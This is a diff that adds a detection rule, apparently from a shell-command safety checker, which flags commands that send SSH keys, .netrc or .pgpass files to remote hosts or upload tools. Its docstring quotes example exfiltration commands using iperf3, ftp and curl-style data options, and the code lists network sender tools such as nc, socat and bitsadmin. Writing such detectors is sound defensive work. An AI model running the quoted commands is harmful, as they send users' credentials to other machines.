@@ -1,0 +1,82 @@
+"""Effect: secrets sent out by any program that reaches another machine, not only the senders
+``exfil`` knows by name.
+
+A program with a remote endpoint on its line (a URL, an address, ``user@host``, a domain) or a
+name that says it uploads (``wgetpaste``, ``mega-put``, ``gist``) sends what it is given: a key
+named as an operand or as the value of a data option (``iperf3 -c HOST -F ~/.ssh/id_rsa``), read
+from ``<``, from a here-string or heredoc of client commands (``ftp HOST <<< 'put ~/.pgpass'``),
+from a substitution (``-d "$(cat ~/.netrc)"``) or from a pipe.  Values of options that
+authenticate (``-i``, ``--key``, ``--cafile``, ``--cert``) are the program's own login, not a
+payload.
+"""
+from __future__ import annotations
+
+import re
+from typing import Optional
+
+from aish.safety.rules.common import HIGH, MEDIUM, Ctx, fragment, target
+from aish.safety.rules.exfil import _in_substitutions, _segment_reads_secret, _worse, secret_path
+from aish.safety.shell_words import Word
+
+_TLDS = ("com|net|org|io|dev|app|co|me|sh|st|xyz|info|biz|cloud|site|online|link|to|us|eu|uk|de|fr|nl|ru|cn|jp|"
+         "onion|example|in|cc|tk|ly|gg|ai|tech|pw|top|live|host|lan|local|internal")
+_ENDPOINT = re.compile(rf"^([a-z][\w+.-]*://\S+|(\S+@)?\d{{1,3}}(\.\d{{1,3}}){{3}}([:/]\S*)?|"
+                       rf"[\w.-]+@[\w-]+(\.[\w-]+)*(:\S*)?|([\w-]+\.)+({_TLDS})(:\d+)?(/\S*)?|"
+                       rf"[\w.-]+:\d{{2,5}}|\\\\[\w.-]+\\\S*)$", re.IGNORECASE)
+# Program names that say they upload or paste what they are given.
+_UPLOADER = re.compile(r"paste|gist|upload|(?<!in)(?<!out)put$|(^|[-_])send$|(^|[-_])share$|transfer", re.IGNORECASE)
+# First operands after which an uploader only lists, fetches or removes.
+_NOT_SENDING = {"list", "ls", "info", "help", "download", "get", "search", "delete", "rm", "remove", "mkdir",
+                "status", "whoami", "login", "logout", "version", "config", "share-list", "space"}
+# Options whose value is the program's own login or configuration, not a payload.
+_AUTH_OPTION = re.compile(r"^-{1,2}(i|identity\w*|[\w-]*key[\w-]*|[\w-]*cert[\w-]*|ca[\w-]*|[\w-]*cred[\w-]*|"
+                          r"[\w-]*pass[\w-]*|[\w-]*token[\w-]*|auth[\w-]*|tls[\w-]*|ssl[\w-]*|[\w-]*config|profile|"
+                          r"login[\w-]*|known[\w-]*)$", re.IGNORECASE)
+# Senders `exfil` knows whose operands and fed commands it does not read in full.
+LOOSE_SENDERS = frozenset({"tftp", "ftp", "sftp", "lftp", "ncftp", "telnet", "socat", "nc", "ncat", "netcat",
+                           "openssl", "bitsadmin", "bitsadmin.exe", "curl.exe", "invoke-webrequest", "iwr",
+                           "invoke-restmethod", "irm", "start-bitstransfer"})
+_PATHISH = re.compile(r"(?:^|[\s'\"=;])([~/$%][^\s'\";|&)]+|[A-Za-z]:\\[^\s'\";|&)]+)")
+
+
+def rule_secrets_reach(c: Ctx, known: bool) -> Optional[tuple]:
+    """A secret handed to a program that reaches the network, whatever the program."""
+    if known and c.prog.lower() not in LOOSE_SENDERS:
+        return None
+    texts = c.texts
+    name = re.sub(r"\.(sh|py|exe)$", "", c.prog)
+    uploader = bool(_UPLOADER.search(name)) and not (_operands(texts)[:1] and _operands(texts)[0] in _NOT_SENDING)
+    if not uploader and not any(_ENDPOINT.match(t) for t in texts if not t.startswith("-") or "=" in t):
+        return None
+    found = _in_substitutions(c.args)
+    for k, w in enumerate(c.args):
+        t = w.text
+        if t.startswith("-") and "=" not in t or _ENDPOINT.match(t):
+            continue
+        if k and _AUTH_OPTION.match(texts[k - 1]):
+            continue
+        if t.startswith("-"):  # --data-file=PATH
+            opt, _, value = t.partition("=")
+            if _AUTH_OPTION.match(opt):
+                continue
+            w = Word(value, value, has_var="$" in value)
+        if target(w).kind in ("home", "root", "userhome"):
+            continue  # a whole home is a backup's business; only keys and credentials count here
+        found = _worse(found, secret_path(w))
+    for red in c.seg.redirects:
+        if red.op == "<" and red.target is not None:
+            found = _worse(found, secret_path(red.target))
+        fed = red.body or (red.target.text if red.op == "<<<" and red.target is not None else "")
+        for path in _PATHISH.findall(fed)[:50]:
+            found = _worse(found, secret_path(Word(path, path, has_var="$" in path)))
+    for feeder in c.chain:
+        found = _worse(found, _segment_reads_secret(feeder))
+    if not found:
+        return None
+    level = HIGH if found == "high" else MEDIUM
+    what = "keys or credentials" if found == "high" else "the environment, history or secrets"
+    return level, f"{c.prog} sends {what} to another machine ({fragment([w.raw for w in c.words])})"
+
+
+def _operands(texts: list) -> list:
+    return [t for t in texts if not t.startswith("-")]
